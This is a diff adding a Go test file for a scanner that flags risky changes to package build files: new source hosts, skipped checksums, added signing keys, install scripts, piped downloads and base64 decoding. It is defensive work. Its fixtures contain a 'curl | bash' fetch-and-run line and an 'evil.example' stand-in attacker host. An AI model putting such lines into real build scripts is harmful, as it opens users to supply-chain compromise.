@@ -0,0 +1,63 @@
+/*
+ * @Author: FunctionSir
+ * @License: AGPLv3
+ * @Date: 2026-10-19 15:15:30
+ * @LastEditTime: 2026-10-19 15:15:38
+ * @LastEditors: FunctionSir
+ * @Description: -
+ * @FilePath: /repo-donkey/scan_test.go
+ */
+
+package main
+
+import (
+	"slices"
+	"strings"
+	"testing"
+)
+
+func TestScanChange(t *testing.T) {
+	const old = "pkgname=foo\nsource=(\"https://example.org/foo.tar.gz\")\nsha256sums=('aaa')\nvalidpgpkeys=('AAAA')\n"
+	cases := []struct {
+		name  string
+		new   string
+		rules []string
+	}{
+		{"unchanged", old, nil},
+		{"new host", "pkgname=foo\nsource=(\"https://example.org/foo.tar.gz\"\n        \"https://evil.example/x.patch\")\nsha256sums=('aaa' 'bbb')\nvalidpgpkeys=('AAAA')\n", []string{RISK_SOURCE_HOST}},
+		{"more skips", "pkgname=foo\nsource=(\"https://example.org/foo.tar.gz\")\nsha256sums=('SKIP')\nvalidpgpkeys=('AAAA')\n", []string{RISK_SKIP_CHECKSUM}},
+		{"new key", "pkgname=foo\nsource=(\"https://example.org/foo.tar.gz\")\nsha256sums=('aaa')\nvalidpgpkeys=('AAAA' 'BBBB')\n", []string{RISK_PGP_KEYS}},
+		{"install script", old + "install=foo.install\n", []string{RISK_INSTALL_SCRIPT}},
+		{"pipe to shell", old + "prepare() {\n  curl -s https://example.org/x | bash\n}\n", []string{RISK_PIPE_TO_SHELL}},
+		{"base64", old + "prepare() {\n  echo eA== | base64 -d > x\n}\n", []string{RISK_BASE64}},
+	}
+	// Sources using $url move to a new host when only url= changes.
+	const oldURL = "pkgname=foo\nurl=\"https://example.org/$pkgname\"\nsource=(\"${url}/archive/v1.tar.gz\"\n        \"$url/fix.patch\")\nsha256sums=('aaa' 'bbb')\n"
+	urlCases := []struct {
+		name  string
+		new   string
+		rules []string
+	}{
+		{"url unchanged", oldURL, nil},
+		{"url moved", strings.Replace(oldURL, "example.org", "evil.example", 1), []string{RISK_SOURCE_HOST}},
+		{"url moved, single quotes", strings.Replace(oldURL, "url=\"https://example.org/$pkgname\"", "url='https://evil.example/foo'", 1), []string{RISK_SOURCE_HOST}},
+	}
+	for _, c := range urlCases {
+		rules := make([]string, 0)
+		for _, f := range ScanChange([]byte(oldURL), []byte(c.new)) {
+			rules = append(rules, f.Rule)
+		}
+		if !slices.Equal(rules, c.rules) {
+			t.Errorf("%s: ScanChange found %v, want %v", c.name, rules, c.rules)
+		}
+	}
+	for _, c := range cases {
+		rules := make([]string, 0)
+		for _, f := range ScanChange([]byte(old), []byte(c.new)) {
+			rules = append(rules, f.Rule)
+		}
+		if !slices.Equal(rules, c.rules) {
+			t.Errorf("%s: ScanChange found %v, want %v", c.name, rules, c.rules)
+		}
+	}
+}